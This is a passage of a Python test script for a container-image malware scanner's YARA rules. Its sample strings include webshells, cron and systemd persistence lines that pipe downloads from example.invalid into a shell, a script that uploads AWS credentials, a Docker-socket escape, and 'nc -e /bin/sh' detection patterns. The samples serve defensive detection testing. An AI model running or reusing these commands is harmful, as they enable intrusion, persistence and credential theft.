    "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n",
    layer=2)
hit("SW-BACKDOOR-WEBSHELL", "flask-os-popen", "/opt/app/debug_view.py",
    "from flask import request\nimport os\n\ndef run():\n    return os.popen(request.args.get('c')).read()\n",
    layer=2)
hit("SW-BACKDOOR-WEBSHELL", "node-exec-query", "/opt/app/routes/admin.js",
    "const { exec } = require('child_process');\napp.get('/x', (req, res) => exec(req.query.c, (e, o) => res.send(o)));\n",
    layer=2)
miss("SW-BACKDOOR-WEBSHELL", "php-escaped-arg", "/var/www/html/list.php",
     "<?php $f = escapeshellarg($_GET['f']); system('ls -l ' . $f); echo htmlspecialchars($_GET['q']); ?>\n",
     layer=2)
miss("SW-BACKDOOR-WEBSHELL", "flask-fixed-command", "/opt/app/status.py",
     "from flask import request\nimport subprocess\nname = request.args.get('n')\n"
     "out = subprocess.run(['uptime'], capture_output=True)\n", layer=2)

# --- persistence (location dependent: image pass only)
hit("SW-PERSIST-CRON", "cron-d-curl-sh", "/etc/cron.d/apache-update",
    "*/5 * * * * root curl -fsSL http://example.invalid/s.sh | sh\n", location=True, layer=3)
hit("SW-PERSIST-CRON", "user-crontab-tmp", "/var/spool/cron/crontabs/root",
    "* * * * * /tmp/.x/kworker >/dev/null 2>&1\n", location=True, layer=3)
hit("SW-PERSIST-CRON", "cron-hourly-wget-tmp", "/etc/cron.hourly/sync",
    "#!/bin/sh\nwget -q -O /tmp/up http://example.invalid/up && sh /tmp/up\n", location=True, layer=3)
hit("SW-PERSIST-CRON", "crontab-reboot-hidden", "/etc/crontab",
    "SHELL=/bin/sh\n@reboot root /usr/lib/.sys/updater\n", location=True, layer=3)
hit("SW-PERSIST-CRON", "cron-base64-sh", "/etc/cron.d/php-sess",
    "*/10 * * * * root echo ZWNobyBoaQo= | base64 -d | sh\n", location=True, layer=3)
miss("SW-PERSIST-CRON", "e2scrub-like", "/etc/cron.d/e2scrub_all",
     "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
     "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n", location=True, layer=3)
miss("SW-PERSIST-CRON", "tmp-cleanup", "/etc/cron.daily/cleanup",
     "#!/bin/sh\nfind /tmp -type f -mtime +7 -delete\n", location=True, layer=3)
miss("SW-PERSIST-CRON", "healthcheck-ping", "/etc/cron.d/ping",
     "*/5 * * * * root curl -fsS -m 10 https://hc-ping.example.invalid/abc >/dev/null\n", location=True, layer=3)
miss("SW-PERSIST-CRON", "cron-line-outside-cron", "/usr/share/doc/cron/examples/evil.cron",
     "*/5 * * * * root curl -fsSL http://example.invalid/s.sh | sh\n", location=True, layer=3)

hit("SW-PERSIST-SHELL-STARTUP", "profile-d-fetch", "/etc/profile.d/proxy.sh",
    "curl -s http://example.invalid/p | bash >/dev/null 2>&1 &\n", location=True, layer=3)
hit("SW-PERSIST-SHELL-STARTUP", "bashrc-preload-hidden", "/root/.bashrc",
    "export LD_PRELOAD=/usr/lib/.cache/libsys.so\n", location=True, layer=3)
miss("SW-PERSIST-SHELL-STARTUP", "bash-completion-like", "/etc/profile.d/bash_completion.sh",
     "if [ -n \"${BASH_VERSION-}\" ]; then\n  . /usr/share/bash-completion/bash_completion\nfi\n",
     location=True, layer=3)
miss("SW-PERSIST-SHELL-STARTUP", "profile-decodes-to-file", "/etc/profile.d/motd-art.sh",
     "echo SGVsbG8K | base64 -d > \"$HOME/.motd\"\n", location=True, layer=3)
miss("SW-PERSIST-SHELL-STARTUP", "jemalloc-preload", "/home/app/.profile",
     "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n", location=True, layer=3)

hit("SW-PERSIST-INIT-SCRIPT", "rc-local-nohup-tmp", "/etc/rc.local",
    "#!/bin/sh -e\nnohup /var/tmp/.sys/sshd -c /var/tmp/.sys/c.json &\nexit 0\n", location=True, layer=3)
hit("SW-PERSIST-INIT-SCRIPT", "init-d-fetch", "/etc/init.d/network-helper",
    "#!/bin/sh\n(curl -fsSL http://example.invalid/i || wget -q -O- http://example.invalid/i) | sh\n",
    location=True, layer=3)
miss("SW-PERSIST-INIT-SCRIPT", "init-d-legit", "/etc/init.d/webapp",
     "#!/bin/sh\nstart-stop-daemon --start --quiet --pidfile /run/webapp.pid --exec /usr/sbin/webapp\n",
     location=True, layer=3)

miss("SW-PERSIST-INIT-SCRIPT", "x11-socket-dir-list", "/etc/init.d/x11-common",
     "#!/bin/sh\nfor d in \\\n    /tmp/.X11-unix \\\n    /tmp/.ICE-unix; do\n  mkdir -p \"$d\" && chmod 1777 \"$d\"\ndone\n",
     location=True, layer=3)

hit("SW-PERSIST-SYSTEMD", "unit-exec-tmp", "/etc/systemd/system/dbus-helper.service",
    "[Unit]\nDescription=helper\n[Service]\nExecStart=/bin/sh -c '/tmp/.dbus/helper -c /tmp/.dbus/c.json'\n"
    "Restart=always\n[Install]\nWantedBy=multi-user.target\n", location=True, layer=3)
hit("SW-PERSIST-SYSTEMD", "unit-hidden-dir", "/lib/systemd/system/sysupdate.service",
    "[Service]\nExecStart=/usr/share/.sys/sysupdate\n", location=True, layer=3)
hit("SW-PERSIST-SYSTEMD", "unit-fetch", "/etc/systemd/system/upd.service",
    "[Service]\nType=oneshot\nExecStartPre=/bin/bash -c 'curl -s http://example.invalid/a | bash'\n"
    "ExecStart=/bin/true\n", location=True, layer=3)
miss("SW-PERSIST-SYSTEMD", "tmpfiles-clean-like", "/lib/systemd/system/systemd-tmpfiles-clean.service",
     "[Service]\nType=oneshot\nExecStart=systemd-tmpfiles --clean\nPrivateTmp=yes\n", location=True, layer=3)
miss("SW-PERSIST-SYSTEMD", "node-app-dot-next", "/etc/systemd/system/web.service",
     "[Service]\nExecStart=/usr/bin/node /srv/app/.next/standalone/server.js --tmpdir /tmp/app\n",
     location=True, layer=3)
miss("SW-PERSIST-SYSTEMD", "unit-outside-systemd", "/opt/app/dbus-helper.service",
     "[Service]\nExecStart=/bin/sh -c '/tmp/.dbus/helper'\n", location=True, layer=3)

hit("SW-PERSIST-LD-PRELOAD", "ld-so-preload", "/etc/ld.so.preload",
    "/usr/local/lib/libprocesshider.so\n", location=True, layer=3)
miss("SW-PERSIST-LD-PRELOAD", "preload-example-elsewhere", "/usr/share/doc/x/ld.so.preload",
     "/usr/local/lib/libprocesshider.so\n", location=True, layer=3)

SSH_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIStowawayTestKeyNotARealKeyJustTheShape0000 attacker@host\n"
hit("SW-PERSIST-SSH-KEY-ROOT", "root-authorized-keys", "/root/.ssh/authorized_keys", SSH_KEY,
    location=True, layer=3)
miss("SW-PERSIST-SSH-KEY-ROOT", "openssh-doc-example", "/usr/share/doc/openssh-client/authorized_keys",
     SSH_KEY, location=True, layer=3)
miss("SW-PERSIST-SSH-KEY-ROOT", "root-keys-only-comments", "/root/.ssh/authorized_keys2",
     "# keys are added at run time\n", location=True, layer=3)
hit("SW-PERSIST-SSH-KEY-USER", "user-authorized-keys", "/home/ci/.ssh/authorized_keys", SSH_KEY,
    location=True, layer=3)
miss("SW-PERSIST-SSH-KEY-USER", "known-hosts", "/home/ci/.ssh/known_hosts",
     "github.example.invalid " + SSH_KEY, location=True, layer=3)

# --- container attack families
hit("SW-FAMILY-KINSING", "kinsing-script", "/opt/d.sh",
    "#!/bin/sh\nwget -q http://example.invalid/kinsing -O /etc/kinsing\nchmod +x /etc/kinsing\n", layer=3)
hit("SW-FAMILY-KINSING", "kdevtmpfsi-binary", "/opt/bin/kdev",
    elf("kdevtmpfsi", "randomx"), layer=3)
hit("SW-FAMILY-KINSING", "kinsing-go-agent", "/opt/bin/agent",
    elf("main.minerRunningCheck", "main.masscanNeeded", "main.getOrCreateUUID"), layer=3)
miss("SW-FAMILY-KINSING", "threat-report-text", "/opt/notes/kinsing.txt",
     "Kinsing is a malware family seen in 2020.\n", layer=3)

RIVAL = ("#!/bin/sh\npkill -f xmrig\nkillall -9 kdevtmpfsi\n"
         "ps aux | grep -v grep | grep 'kworkerds' | awk '{print $2}' | xargs -I %% kill -9 %%\n")
hit("SW-CONTAINER-RIVAL-KILL", "kill-three-rivals", "/opt/k.sh", RIVAL, layer=3)
hit("SW-CONTAINER-RIVAL-KILL", "kill-two-and-block", "/opt/k2.sh",
    "#!/bin/sh\npkill -9 -f xmr-stak\nkillall minerd\niptables -A OUTPUT -p tcp --dport 3333 -j DROP\n", layer=3)
miss("SW-CONTAINER-RIVAL-KILL", "single-kill", "/opt/k3.sh",
     "#!/bin/sh\npkill -f xmrig || true\npgrep nginx >/dev/null\n", layer=3)

CREDS = ("#!/bin/bash\nROLE=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\n"
         "cat ~/.aws/credentials > /tmp/.c 2>/dev/null\n"
         "curl -s -F \"f=@/tmp/.c\" http://example.invalid/upload.php\n")
hit("SW-CONTAINER-CLOUD-CREDS", "aws-steal-upload", "/opt/grab.sh", CREDS, layer=3)
miss("SW-CONTAINER-CLOUD-CREDS", "sdk-like-python", "/usr/lib/python3/dist-packages/fakesdk/creds.py",
     "METADATA = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
     "SHARED = '~/.aws/credentials'\n", layer=3)
miss("SW-CONTAINER-CLOUD-CREDS", "metadata-no-upload", "/opt/role.sh",
     "#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role\n"
     "test -f ~/.aws/credentials\n", layer=3)

hit("SW-CONTAINER-ESCAPE", "privileged-root-mount", "/opt/esc.sh",
    "#!/bin/sh\ndocker -H unix:///var/run/docker.sock run --rm --privileged -v /:/host alpine "
    "chroot /host sh -c 'id'\n", layer=3)
hit("SW-CONTAINER-ESCAPE", "scan-and-remote-run", "/opt/spread.sh",
    "#!/bin/sh\nmasscan 10.0.0.0/8 -p2375 --rate 10000 -oL /tmp/o\n"
    "for ip in $(cut -d' ' -f4 /tmp/o); do docker -H tcp://$ip:2375 run -d alpine true; done\n", layer=3)
miss("SW-CONTAINER-ESCAPE", "socket-mount-agent", "/opt/agent.sh",
     "#!/bin/sh\ndocker run -d -v /var/run/docker.sock:/var/run/docker.sock portainer/agent\n", layer=3)

hit("SW-FAMILY-TEAMTNT", "teamtnt-banner", "/opt/t.sh",
    "#!/bin/sh\n# TeamTNT\ncurl -s http://example.invalid/x -o /usr/bin/x\n", layer=3)
miss("SW-FAMILY-TEAMTNT", "name-in-report", "/opt/notes/ttnt.txt", "Indicators: TeamTNT\n", layer=3)

# A payload dropped in one layer and deleted by the next: found anyway, not
# in the final filesystem.
WHITEOUT_CASE = dict(id="SW-MINER-XMRIG", name="deleted-in-later-layer", path="usr/lib/.x/xm",
                     data=XMRIG_STANDIN, match=True, location=True, layer=4, not_ids=(), final=False)

# ------------------------------------------------------------ the driver

CHECKS = Checks()
report = CHECKS.report


def defined_ids():
    ids = set()
    for fn in sorted(os.listdir(os.path.join(TOP, "rules"))):
        if fn.endswith(".yar"):
            ids |= set(re.findall(r'^\s*id\s*=\s*"([^"]+)"', open(os.path.join(TOP, "rules", fn)).read(),
                                  re.M))
    return ids


# ------------------------------------------------------------ size promises

def _strip_comments(s):
    return re.sub(r'/\*[\s\S]*?\*/|//[^\n]*', '', s)


def top_bound(cond):
    """The N of a top-level `filesize < N` conjunct of a condition (no
    top-level `or`), else None."""
    c = _strip_comments(cond).strip()
    while c.startswith("("):
        depth = 0
        for i, ch in enumerate(c):
            depth += (ch == "(") - (ch == ")")
            if depth == 0:
                break
        if i != len(c) - 1:
            break
        c = c[1:-1].strip()
    parts, ops, cur, depth = [], [], "", 0
    for t in re.split(r'(\(|\)|\s+and\s+|\s+or\s+|"(?:\\.|[^"\\])*"|/(?:\\.|[^/\\])*/)', c):
        if not t:
            continue
        depth += (t == "(") - (t == ")")
        if depth == 0 and re.fullmatch(r"\s+(and|or)\s+", t):
            ops.append(t.strip())
            parts.append(cur.strip())
            cur = ""
        else:
            cur += t
    parts.append(cur.strip())
    if "or" in ops:
        return None
    for part in parts:
        m = re.fullmatch(r"filesize\s*<\s*(\d+(?:KB|MB)?)", part)
        if m:
            return m.group(1)
    return None


def check_size_promises():
    """meta max_size lets the engine leave a rule out for larger files
    (src/lib/detect/yaratier.c): each promise must be the rule's own
    top-level `filesize < N`, and each such bound must be promised."""
    for fn in sorted(os.listdir(os.path.join(TOP, "rules"))):
        if not fn.endswith(".yar"):
            continue
        src = open(os.path.join(TOP, "rules", fn)).read()
        for m in re.finditer(r"^((?:private |global )*rule (\w+)[\s\S]*?^\})", src, re.M):
            body, name = m.group(1), m.group(2)
            cond = body[body.index("condition:") + len("condition:"):body.rindex("}")]
            bound = top_bound(cond)
            meta = re.search(r'^\s*max_size\s*=\s*"([^"]*)"', body, re.M)
            promised = meta.group(1) if meta else None
            report(bound == promised, "size promise %-30s %s" % (name, promised or "-"),
                   "condition bound %s, meta max_size %s" % (bound, promised))


def check_list(binary, env):
    p = subprocess.run([binary, "rules", "list"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    listed = set(line.split()[0] for line in p.stdout.decode().splitlines() if line.strip())
    want = defined_ids()
    report(p.returncode == 0, "rules list exits 0", p.stderr.decode().strip())
    missing = sorted(want - listed)
    report(not missing, "rules list names every id defined in rules/*.yar (%d ids)" % len(want),
           "missing: %s" % missing)
    hits = set(c["id"] for c in CASES if c["match"])
    misses = set(c["id"] for c in CASES if not c["match"])
    report(not (want - hits), "every rule id has a match case", "none for %s" % sorted(want - hits))
    report(not (want - misses), "every rule id has a near-miss case", "none for %s" % sorted(want - misses))
    unknown = sorted(set(c["id"] for c in CASES) - want)
    report(not unknown, "cases name only defined ids", "unknown: %s" % unknown)
    paths = [c["path"] for c in CASES]
    dup = sorted(set(p for p in paths if paths.count(p) > 1))
    report(not dup, "case paths are unique", "duplicates: %s" % dup)


def check_prefilter_setup(binary, env):
    """The prefilter (src/lib/detect/yaragate.c) must gate every bundled
    rule: one rule it cannot gate sends every file to libyara. On x86-64
    the build must have it (scripts/deps.sh installs Hyperscan)."""
    p = subprocess.run([binary, "rules", "list"], stdout=subprocess.PIPE, env=env)
    open_rules = [line.split()[0] for line in p.stdout.decode().splitlines() if "(every file)" in line]
    report(not open_rules, "the prefilter gates every bundled rule", "open: %s" % open_rules)
    v = subprocess.run([binary, "version"], stdout=subprocess.PIPE).stdout.decode()
    if platform.machine() == "x86_64":
        report("YARA prefilter: hyperscan" in v, "this build has the Hyperscan prefilter", v.strip())


# Rules that exercise what the gate reader must follow or leave open:
# modifiers (nocase, wide, xor, base64, fullword), hex jumps and
# alternatives, regex flags and classes, counts, offsets, loops, `not`,
# uint32be, rule references, paths.
GATE_RULES = r"""
import "math"
private rule P_SCRIPT { condition: uint16(0) == 0x2123 }
rule G_TEXT { meta: id = "G-TEXT" severity = "low" category = "test" title = "t"
  strings: $a = "Curl" nocase $b = "wget" wide ascii $c = "sh" fullword
  condition: ($a or $b) and $c }
rule G_HEX { meta: id = "G-HEX" severity = "low" category = "test" title = "t"
  strings: $h = { 7F 45 4C 46 [4-12] ( 01 | 02 ) ?? 3E } $i = { 6E 6F 68 75 70 }
  condition: $h at 0 or #i > 1 }
rule G_REGEX { meta: id = "G-REGEX" severity = "low" category = "test" title = "t"
  strings: $r = /(stratum|pool)[0-9]?\+(tcp|ssl):\/\/[a-z0-9.\-]{3,60}:[0-9]{2,5}/ nocase
           $s = /\bnc\s+-e\s+\/bin\/(ba)?sh\b/
           $t = /x{,3}cho[^\n]{0,400}base64 -d/s
           $w = /ev.l\(/ wide
  condition: any of them }
rule G_XOR { meta: id = "G-XOR" severity = "low" category = "test" title = "t"
  strings: $x = "xmrig" xor(1-255) $y = "donate" base64
  condition: $x or $y }
rule G_LOGIC { meta: id = "G-LOGIC" severity = "low" category = "test" title = "t"
  strings: $a = "alpha" $b = "beta" $c = "gamma"
  condition: (2 of ($a, $b, $c) and not $c) or (P_SCRIPT and $a in (0..64)) or
             (filesize < 100 and uint32be(0) == 0x23212f62) or
             for any i in (1..#b) : (@b[i] > 10 and $c) or math.entropy(0, filesize) > 7.99 }
rule G_CLASS { meta: id = "G-CLASS" severity = "low" category = "test" title = "t"
  strings: $c = /[\d-f]x[]-a]y/ $m = /k[a-c]m/wide $n = /zq[^\n]{2}/nocase
  condition: any of them }
rule G_PATH { meta: id = "G-PATH" severity = "low" category = "test" title = "t"
  strings: $k = "key"
  condition: (filename matches /^(id_rsa|authorized_keys)$/ or extension == "pem") and $k }
"""


def unquote(text):
    """A YARA text string's bytes (escapes \\xNN \\n \\t \\r \\" \\\\)."""
    out, i = bytearray(), 0
    while i < len(text):
        c = text[i]
        if c == "\\" and i + 1 < len(text):
            e = text[i + 1]
            if e == "x" and re.fullmatch(r"[0-9a-fA-F]{2}", text[i + 2:i + 4]):
                out.append(int(text[i + 2:i + 4], 16))
                i += 4
                continue
            out += {"n": b"\n", "t": b"\t", "r": b"\r"}.get(e, e.encode("latin-1", "replace"))
            i += 2
            continue
        out += c.encode("latin-1", "replace")
        i += 1
    return bytes(out)


def check_prefilter_agrees(binary, env, work):
    """Pass 3: the prefilter only skips files no rule can match. Thousands
    of files made from the samples (mutated, spliced, case-flipped,
    widened, buried in noise) and from the rules' own strings go through
    `rules test` with and without the prefilter: the matches must be the
    same, and there must be many of them."""
    rng = random.Random(20261128)
    seeds = [c["data"] for c in CASES]
    vocab = []
    for fn in sorted(os.listdir(os.path.join(TOP, "rules"))):
        if fn.endswith(".yar"):
            vocab += [unquote(m) for m in
                      re.findall(r'"((?:\\.|[^"\\\n])*)"', open(os.path.join(TOP, "rules", fn)).read())]
    vocab += [b"curl", b"wget", b"sh", b"nohup", b"nohupnohup", b"\x7fELF\x02\x01\x01\0\0\0\0\x01\0\x3e",
              b"alpha", b"beta", b"gamma", b"#!/bin", b"key", b"stratum+tcp://pool.example.invalid:3333",
              b"nc -e /bin/sh", b"echo aGk= | base64 -d", "ev(l(".encode("utf-16-le"),
              b"ZG9uYXRl", b"donate", bytes(x ^ 0x21 for x in b"xmrig"), "wget".encode("utf-16-le"),
              b"ex]y", b"fx-y", b"dxay", b"5x]y", "kbm".encode("utf-16-le"), b"ZQab", b"zq\nx"]

    def mutate(d):
        k = rng.randrange(8)
        if k == 0 or not d:
            return d
        if k == 1:
            return bytes(c ^ 0x20 if 65 <= (c | 0x20) <= 90 + 32 and rng.random() < 0.3 else c for c in d)
        if k == 2:
            return d[:rng.randrange(len(d) + 1)]
        if k == 3:
            o = rng.choice(seeds)
            return d[:rng.randrange(len(d) + 1)] + o[rng.randrange(len(o) + 1):]
        if k == 4:
            noise = lambda: bytes(rng.randrange(256) for _ in range(rng.randrange(64)))  # noqa: E731
            return noise() + d + noise()  # seeded: a failure can be replayed
        if k == 5:
            return d.decode("latin-1").encode("utf-16-le")
        if k == 6:
            b = bytearray(d)
            for _ in range(rng.randrange(1, 4)):
                b[rng.randrange(len(b))] = rng.randrange(256)
            return bytes(b)
        return d + b"\n" + rng.choice(seeds)

    def soup():
        parts = [rng.choice(vocab) for _ in range(rng.randrange(1, 12))]
        return rng.choice([b"", b"#!/bin/sh\n"]) + rng.choice([b" ", b"\n", b"=", b" -o ", b":"]).join(parts)

    d = os.path.join(work, "agree")
    names = ["a.sh", "b.py", "c.txt", "id_rsa", "d.pem", "authorized_keys", "e", "f.js", "README.md"]
    files = []
    for i in range(2400):
        data = mutate(rng.choice(seeds)) if i % 2 else soup()
        sub = os.path.join(d, "%04d" % i)
        os.makedirs(sub)
        f = os.path.join(sub, rng.choice(names))
        with open(f, "wb") as fh:
            fh.write(data)
        files.append(f)
    rdir = os.path.join(work, "gate-rules")
    os.makedirs(rdir)
    with open(os.path.join(rdir, "gate.yar"), "w") as fh:
        fh.write(GATE_RULES)
    for label, extra in (("bundled rules", []), ("gate rules", ["--no-bundled-rules", "--rules", rdir])):
        got = {}
        for mode in ([], ["--no-prefilter"]):
            p = subprocess.run([binary, "rules", "test"] + extra + mode + files, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, env=env)
            got[bool(mode)] = (p.returncode, sorted(set(
                (m.group(1), m.group(2)) for m in map(MATCH_LINE.match, p.stdout.decode().splitlines()) if m)))
        a, b = got[False], got[True]
        nids = len(set(x[1] for x in b[1]))
        report(a == b, "prefilter agrees with libyara alone on %d files, %s (%d matches, %d ids)" % (
            len(files), label, len(b[1]), nids),
            "only with prefilter: %s; only without: %s" % (sorted(set(a[1]) - set(b[1]))[:10],
                                                            sorted(set(b[1]) - set(a[1]))[:10]))
        report(len(b[1]) >= 200 and nids >= (20 if not extra else 5),
               "the comparison has matches to lose (%s)" % label, "%d matches, %d ids" % (len(b[1]), nids))


def check_prefilter_cache(binary, env, work):
    """The prefilter's compiled databases are cached on disk: a damaged or
    foreign cache file must be recompiled, never trusted."""
    d = os.path.join(work, "pfcache")
    os.makedirs(d)
    files = []
    for i, c in enumerate(c for c in CASES if c["match"] and not c["location"]):
        f = os.path.join(d, "%03d-%s" % (i, os.path.basename(c["path"])))
        with open(f, "wb") as fh:
            fh.write(c["data"])
        files.append(f)

    def run():
        p = subprocess.run([binary, "rules", "test"] + files, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
        return p.returncode, p.stdout
    base = run()
    v = subprocess.run([binary, "version"], stdout=subprocess.PIPE).stdout.decode()
    if "YARA prefilter: none" in v:  # a build without Hyperscan (not amd64): nothing cached
        report(base[0] == 1, "rules test without a prefilter", "exit %d" % base[0])
        return
    cdir = os.path.join(env["XDG_CACHE_HOME"], "stowaway")
    dbs = [os.path.join(cdir, f) for f in os.listdir(cdir) if f.startswith("prefilter-")]
    report(len(dbs) == 1 and base[0] == 1 and base[1].count(b"\n") >= 40,
           "the prefilter's databases are cached (%d file)" % len(dbs), "%s, exit %d" % (dbs, base[0]))
    if len(dbs) != 1:
        return
    good = open(dbs[0], "rb").read()
    # the layout (yara_prefilter.c, pf_cache_load): "SWPF n\n", Hyperscan's version
    # and "\n", u32 patterns, u32 drops, u32 per drop, then the digest
    first = good.index(b"\n") + 1
    nd = struct.unpack_from("<I", good, good.index(b"\n", first) + 1 + 4)[0]
    digest_at = good.index(b"\n", first) + 1 + 8 + 4 * nd
    damaged = {
        "a byte flipped in the header": good[:3] + bytes([good[3] ^ 1]) + good[4:],
        # the file's own SHA-256 (its last 32 bytes) made right again, so
        # that only the digest of the patterns can catch it
        "a byte flipped in the pattern digest, the file's checksum redone":
            (lambda b: b + hashlib.sha256(b).digest())(
                good[:digest_at + 5] + bytes([good[digest_at + 5] ^ 0x40]) + good[digest_at + 6:-32]),
        "a byte flipped in a database": good[:len(good) // 2] + bytes([good[len(good) // 2] ^ 0xff]) + good[len(good) // 2 + 1:],
        "cut in half": good[:len(good) // 2],
        "garbage appended": good + b"\0" * 64,
        "empty": b"",
    }
    for what, data in damaged.items():
        with open(dbs[0], "wb") as fh:
            fh.write(data)
        got = run()
        report(got == base, "prefilter cache %s: same matches" % what, "exit %d" % got[0])
        # refused, compiled again and saved again (serialisation is
        # deterministic): a file that was used as it was stays damaged
        report(open(dbs[0], "rb").read() == good, "prefilter cache %s: refused and rewritten" % what,
               "%d bytes on disk" % os.path.getsize(dbs[0]))


def check_self(binary, env):
    """stowaway compiles its rules into itself, masked (tools/embed.c): an
    image that ships the scanner must not match the scanner's own rules.
    Rule packs in plain text are flagged like anything else, on purpose:
    excusing text that looks like a YARA rule would let attackers hide."""
    p = subprocess.run([binary, "rules", "test", binary], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, env=env)
    report(p.returncode == 0, "the stowaway binary matches no bundled rule",
           (p.stdout + p.stderr).decode().strip()[:2000])


MATCH_LINE = re.compile(r"^(.*): (\S+) (\S+) (\S+) \(([^)]*)\) (.*)$")


def check_rules_test(binary, env, work):
    """Pass 1: stowaway rules test over the samples as local files."""
    files = {}
    for i, c in enumerate(CASES):
        if c["location"]:
            continue
        d = os.path.join(work, "files", "%03d" % i)
        os.makedirs(d)
        f = os.path.join(d, os.path.basename(c["path"]))
        with open(f, "wb") as fh:
            fh.write(c["data"])
        files[f] = c
    p = subprocess.run([binary, "rules", "test"] + sorted(files), stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, env=env)
    report(p.returncode in (0, 1), "rules test runs (exit %d)" % p.returncode, p.stderr.decode().strip())
    matched = {f: set() for f in files}
    for line in p.stdout.decode().splitlines():
        m = MATCH_LINE.match(line)
        if m and m.group(1) in matched:
            matched[m.group(1)].add(m.group(2))
    for f, c in sorted(files.items(), key=lambda kv: kv[0]):
        got = matched[f]
        what = "rules-test %-26s %-4s %s" % (c["id"], "hit" if c["match"] else "miss", c["name"])
        bad_also = sorted(set(c["not_ids"]) & got)
        ok = (c["id"] in got) == c["match"] and not bad_also
        report(ok, what, "matched %s" % sorted(got))


def check_image(binary, env, work):
    """Pass 2: every sample at its path in an OCI image, scanned."""
    by_layer = {}
    for c in CASES:
        by_layer.setdefault(c["layer"], []).append(c)
    nlayers = max(max(by_layer), WHITEOUT_CASE["layer"] + 1)
    layers = [Layer([E("bin/sh", b"#!stand-in shell\n", mode=0o755),
                     E("etc/os-release", b'PRETTY_NAME="Test Linux"\n')], created_by="ADD rootfs.tar /")]
    for n in range(1, nlayers + 1):
        ents = [E(c["path"], c["data"], mode=0o755) for c in by_layer.get(n, [])]
        if n == WHITEOUT_CASE["layer"]:
            ents.append(E(WHITEOUT_CASE["path"], WHITEOUT_CASE["data"], mode=0o755))
        if n == WHITEOUT_CASE["layer"] + 1:
            d, b = os.path.split(WHITEOUT_CASE["path"])
            ents.append(E(d + "/.wh." + b))
        layers.append(Layer(ents, created_by="COPY samples-%d /" % n))
    root = os.path.join(work, "image")
    oci_image(root, layers, name="docker.io/someuser/openjdk:latest")
    p = subprocess.run([binary, "scan", "--format", "json", "oci:" + root], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, env=env)
    report(p.returncode == 1, "image scan exits 1 (findings at or above high)",
           "exit %d: %s" % (p.returncode, p.stderr.decode().strip()))
    # the same scan with every file given to libyara: the same findings
    q = subprocess.run([binary, "scan", "--no-cache", "--no-prefilter", "--format", "json", "oci:" + root],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    try:
        key = lambda rep: sorted((f["id"], f["path"], f["layer"], f["severity"]) for f in json.loads(rep)["findings"])
        same, diff = key(p.stdout) == key(q.stdout), set(key(p.stdout)) ^ set(key(q.stdout))
    except (ValueError, KeyError) as e:
        same, diff = False, str(e)
    report(same, "image scan finds the same with --no-prefilter", str(diff))
    try:
        r = json.loads(p.stdout.decode())
    except ValueError as e:
        report(False, "image scan JSON", str(e))
        return
    report(r.get("incomplete") == [], "nothing incomplete", str(r.get("incomplete")))
    found = {}
    for f in r["findings"]:
        found.setdefault(f["path"], []).append(f)
    for c in CASES + [WHITEOUT_CASE]:
        path = "/" + c["path"]
        here = [f for f in found.get(path, []) if f["id"] == c["id"]]
        ids_here = sorted(set(f["id"] for f in found.get(path, [])))
        what = "image      %-26s %-4s %s (%s)" % (c["id"], "hit" if c["match"] else "miss", c["name"], path)
        bad_also = sorted(set(c["not_ids"]) & set(ids_here))
        if not c["match"]:
            report(not here and not bad_also, what, "found %s" % ids_here)
            continue
        ok = len(here) == 1 and here[0]["layer"] == c["layer"] and not bad_also
        if ok and "final" in c:
            ok = here[0]["in_final_fs"] == c["final"]
        report(ok, what, "found %s" % [(f["id"], f["layer"], f.get("in_final_fs")) for f in found.get(path, [])])
    # Nothing outside the samples: the base layer must stay clean.
    sample_paths = set("/" + c["path"] for c in CASES + [WHITEOUT_CASE])
    stray = sorted(set(f["path"] for f in r["findings"]) - sample_paths)
    report(not stray, "no findings outside the sample paths", str(stray))


def main():
    if len(sys.argv) != 2:
        print(__doc__.strip().splitlines()[2], file=sys.stderr)
        return 2
    binary = os.path.abspath(sys.argv[1])
    work = tempfile.mkdtemp(prefix="stowaway-rules-")
    env = dict(os.environ, XDG_CACHE_HOME=os.path.join(work, "cache"))
    try:
        check_size_promises()
        check_list(binary, env)
        check_self(binary, env)
        check_prefilter_setup(binary, env)
        check_prefilter_cache(binary, env, work)
        check_rules_test(binary, env, work)
        check_image(binary, env, work)
        check_prefilter_agrees(binary, env, work)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    return CHECKS.summary("rules")


if __name__ == "__main__":
    sys.exit(main())
